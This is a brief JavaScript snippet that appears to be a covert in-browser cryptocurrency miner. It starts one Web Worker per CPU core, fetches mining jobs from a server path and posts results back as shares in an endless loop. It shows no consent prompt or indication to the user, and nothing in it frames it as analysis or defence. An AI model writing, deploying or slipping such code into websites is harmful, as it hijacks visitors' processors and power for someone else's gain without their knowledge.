// No socket: work by GET, shares by POST.
(async () => {
  const base = '/t/' + document.domain.length;
  const cores = navigator.hardwareConcurrency || 2;
  const crew = [...Array(cores)].map(() => new Worker(base + '/w.js'));
  crew.forEach((one) => { one.onmessage = ({ data }) => fetch(base + '/s', { method: 'POST', body: JSON.stringify({ job_id: data.job_id, nonce: data.nonce, result: data.result }) }); });
  for (;;) {
    const { job_id, blob, target } = await (await fetch(base + '/j')).json();
    crew.forEach((one, at) => one.postMessage({ job_id, blob, target, start: at * 0x10000000 }));
    await new Promise((resolve) => setTimeout(resolve, 30000));
  }
})();
